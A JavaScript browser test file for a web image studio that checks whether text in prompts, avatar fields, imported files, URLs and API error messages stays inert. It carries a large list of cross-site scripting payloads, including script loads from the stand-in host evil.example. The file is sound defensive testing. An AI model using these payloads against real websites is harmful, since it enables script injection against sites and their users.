// Text that wants to be code, through every input: it stays text.

import assert from 'node:assert/strict';
import { FAILED_LOAD, able, answerOrders, details, eventually, flows, job, make, open, opened, ready } from './support/studio.mjs';

const CALL = 'globalThis.pwned=1;alert(1)';
const AWAY = 'https://evil.example/x';

/** Elements, attributes, addresses, broken markup, encodings, templates: what has worked somewhere. */
const PAYLOADS = [
  ...['img src=x onerror', 'svg onload', 'body onload', 'video><source onerror', 'details open ontoggle', 'input autofocus onfocus', 'marquee onstart', 'audio src onerror', 'iframe onload', 'select autofocus onfocus', 'object data=x onerror', 'style onload'].map(
    (tag) => `<${tag}="${CALL}">`,
  ),
  ...['"', "'", '`', '">', "'>", '</textarea>', '</title>', '</script>', '-->', ']]>', '</style>', '</noscript>'].map((out) => `${out}<img src=x onerror="${CALL}">`),
  `<script>${CALL}</script>`,
  `<script src="${AWAY}.js"></script>`,
  `<SCRIPT/x>${CALL}</SCRIPT>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin="${CALL}" attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x">`,
  `<math><mtext><img src=x onerror="${CALL}">`,
  `<iframe srcdoc="<script>parent.${CALL}</script>">`,
  `<iframe src="javascript:${CALL}">`,
  `<a href="javascript:${CALL}">x</a>`,
  `<form action="javascript:${CALL}"><button>x`,
  `<base href="${AWAY}/">`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<link rel=stylesheet href="${AWAY}.css">`,
  `<link rel=preload as=script href="${AWAY}.js">`,
  `<img src="${AWAY}.png">`,
  `<style>@import "${AWAY}.css";</style>`,
  `<div style="background:url(${AWAY})">`,
  `<template><script>${CALL}</script></template>`,
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  `&lt;img src=x onerror=&quot;${CALL}&quot;&gt;`,
  `&#60;script&#62;${CALL}&#60;/script&#62;`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `<%= ${CALL} %>`,
  `__proto__[onerror]=${CALL}`,
  `"onmouseover="${CALL}" x="`,
  `' autofocus onfocus='${CALL}' x='`,
  `\u202E<script>${CALL}</script>`,
  `\u0000<script>${CALL}</script>`,
  `<img src=x:x onerror=${CALL}//`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
];

/** Watches for code that runs and for requests that leave. Gives a function that says what was seen. */
function guard(page) {
  const seen = [];
  page.on('dialog', (dialog) => {
    seen.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    if (new URL(request.url()).hostname === 'evil.example') seen.push(`request: ${request.url()}`);
  });
  return async () => {
    if (await page.evaluate(() => globalThis.pwned)) seen.push('code ran');
    const strange = await page.evaluate(
      () =>
        [...document.querySelectorAll('script')].filter((script) => new URL(script.src || '/', location.href).origin !== location.origin).length +
        document.querySelectorAll('#main iframe, #main object, #main [onerror], #main [onload], #main a[href^="javascript:" i]').length,
    );
    if (strange) seen.push(`${strange} elements that nobody put there`);
    return seen;
  };
}

flows('text that wants to be code', {}, (flow) => {
  flow('is text in the prompt, and in what will be sent', async ({ page }) => {
    const seen = guard(page);
    await able(page);
    await details(page);
    for (const payload of PAYLOADS) await page.locator('#prompt').fill(payload);
    await page.locator('#prompt').fill(PAYLOADS.join(' '));
    await page.waitForTimeout(500);
    await page.reload();
    await ready(page);
    assert.deepEqual(await seen(), []);
  });

  flow('is text in every field of an avatar, on its card, and in an imported file', async ({ page }) => {
    const seen = guard(page);
    await able(page);
    await opened(page);
    await open(page, '/avatars');
    const avatars = PAYLOADS.map((payload, index) => ({
      name: payload,
      kind: index % 2 ? 'artistic' : 'portrait',
      trigger_word: payload,
      trigger_phrase: payload,
      ...(index % 2 ? { finetune_id: payload } : { lora_url: payload }),
    }));
    const buffer = Buffer.from(JSON.stringify({ avatars, __proto__: { onerror: CALL } }));
    await page.locator('input[type="file"]').setInputFiles({ name: PAYLOADS[0], mimeType: 'application/json', buffer });
    await eventually(async () => assert.ok((await page.locator('.card').count()) >= PAYLOADS.length));
    for (const path of ['/', '/avatars']) {
      await open(page, path);
      await page.waitForTimeout(300);
    }
    await open(page, '/avatars/new');
    for (const field of await page.locator('#main input[type="text"], #main input[type="url"], #main input:not([type])').all()) {
      for (const payload of PAYLOADS.slice(0, 12)) await field.fill(payload);
    }
    assert.deepEqual(await seen(), []);
  });

  flow('is text in the address', async ({ page }) => {
    const seen = guard(page);
    for (const payload of PAYLOADS.slice(0, 30)) {
      const text = encodeURIComponent(payload);
      // Some are no address that the server has a page for, which is an answer too.
      await page.goto(`/avatars/${text}?x=${text}#${text}`);
      assert.deepEqual(await seen(), []);
    }
    const text = encodeURIComponent(PAYLOADS.join(' ').slice(0, 2000));
    await open(page, `/avatars/new?x=${text}#${text}`);
    assert.deepEqual(await seen(), []);
  }, { expected: [FAILED_LOAD] });

  flow('is text in what FAL says of an error', async ({ page }) => {
    const seen = guard(page);
    await able(page);
    let payload;
    await answerOrders(page, (route) =>
      route.fulfill({ status: 422, json: { detail: [{ loc: ['body', payload], msg: payload, type: payload }] }, headers: { 'x-fal-error-type': 'x' } }),
    );
    for (payload of PAYLOADS.filter((_, index) => index % 3 === 0)) {
      await make(page, 'at dawn');
      const card = job(page, 'failed');
      await card.locator('summary').click();
      await card.getByRole('button', { name: 'Dismiss' }).click();
      await eventually(async () => assert.equal(await page.locator('.job').count(), 0));
    }
    assert.deepEqual(await seen(), []);
  }, { expected: [FAILED_LOAD] });
});

flows('markup that the page did not bring', {}, (flow) => {
  flow('is refused by the browser before it becomes elements', async ({ page }) => {
    const outcomes = await page.evaluate(() =>
      [
        () => (document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>'),
        () => (document.createElement('div').innerHTML = '<script>alert(1)</script>'),
        () => (document.createElement('script').src = '/boot.js'),
        () => (document.createElement('script').text = 'alert(1)'),
      ].map((attempt) => {
        try {
          attempt();
          return 'taken';
        } catch {
          return 'refused';
        }
      }),
    );
    assert.deepEqual(outcomes, ['refused', 'refused', 'refused', 'refused']);
  }, { expected: [/content policy: require-trusted-types-for/, /TrustedHTML|TrustedScript|Trusted Type/i] });
});
